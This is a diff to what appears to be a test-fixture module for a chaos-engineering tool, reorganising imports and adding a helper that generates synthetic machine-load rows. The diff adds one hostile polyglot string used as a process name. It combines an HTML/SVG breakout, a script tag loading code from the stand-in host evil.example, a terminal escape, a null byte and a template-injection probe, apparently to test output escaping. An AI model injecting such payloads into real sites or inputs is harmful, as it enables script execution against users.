@@ -14,8 +14,7 @@ from typing import Any, Literal
 
 import msgspec
 
-from chaoslab.events import Abort, Anchor, AnyRow, Condition, Fault, LedgerRead, Load, Note, Phase, PhaseRow, Probe
-from chaoslab.result import (
+from chaoslab.history.result import (
     ClockResult,
     FaultResult,
     Interval,
@@ -23,13 +22,29 @@ from chaoslab.result import (
     LedgerResult,
     LoadResult,
     ObjectiveResult,
-    Outage,
+    OutageResult,
     Result,
     ServiceResult,
 )
-from chaoslab.spec.model import Experiment, StackSpec
+from chaoslab.history.rows import (
+    Abort,
+    Anchor,
+    AnyRow,
+    Condition,
+    Fault,
+    LedgerRead,
+    Load,
+    Machine,
+    Note,
+    Phase,
+    PhaseRow,
+    Probe,
+)
+from chaoslab.spec.model import Experiment
+from chaoslab.spec.stackfile.model import StackSpec
 
 S = 1_000_000_000
+HOSTILE = "</svg></style><script src=//evil.example/x.js>alert(1)</script>$\\frac\x1b[2J\x00'\"&{{7*7}}"
 START_NS = 7_000 * S  # a machine that has been up for two hours
 RATE = 50
 SERVICES = ("auth", "talk", "pay", "partner")
@@ -262,6 +277,23 @@ def history(script: Script, *, fault: bool = True) -> list[AnyRow]:
     return sorted(rows, key=lambda row: row.t_ns)
 
 
+def machine_rows(*, starved_s: range = range(0), until_s: int = 90) -> list[Machine]:
+    """One a second; `starved_s` while others, with a hostile name, have everything."""
+    quiet = {"pangyo": 0.3, "anyang": 0.3, "outside": 0.1, "load": 0.1, "harness": 0.2, "others": 0.1}
+    return [
+        Machine(
+            t_ns=at(second + 1),
+            begin_ns=at(second),
+            busy=quiet | ({"others": 1.0} if second in starved_s else {}),
+            starved=second in starved_s,
+            late=["read"] if second in starved_s else [],
+            why="the control's read was 2.10 s late" if second in starved_s else "",
+            top=[f"{HOSTILE} (4711) 0.90"],
+        )
+        for second in range(until_s)
+    ]
+
+
 def _journey_result(name: str, rows: list[AnyRow], outages: list[tuple[float, float, float]], censored: bool) -> JourneyResult:
     service, op, usual_ms = JOURNEYS[name]
     slots = [row for row in rows if isinstance(row, Probe) and row.journey == name and row.due_ns >= at(INJECT_S)]
@@ -280,7 +312,7 @@ def _journey_result(name: str, rows: list[AnyRow], outages: list[tuple[float, fl
         rto_s=Interval(max(0.0, recovered - 0.08), None if censored else recovered + 0.04, 45.0) if first or censored else None,
         failback_s=None if censored else Interval(*failed_back, 30.0),
         outages=[
-            Outage(begin, end - begin - 0.02, end - begin + 0.02, round((end - begin) * RATE * share))
+            OutageResult(begin, end - begin - 0.02, end - begin + 0.02, round((end - begin) * RATE * share))
             for begin, end, share in outages
         ],
         p50_ms=usual_ms,
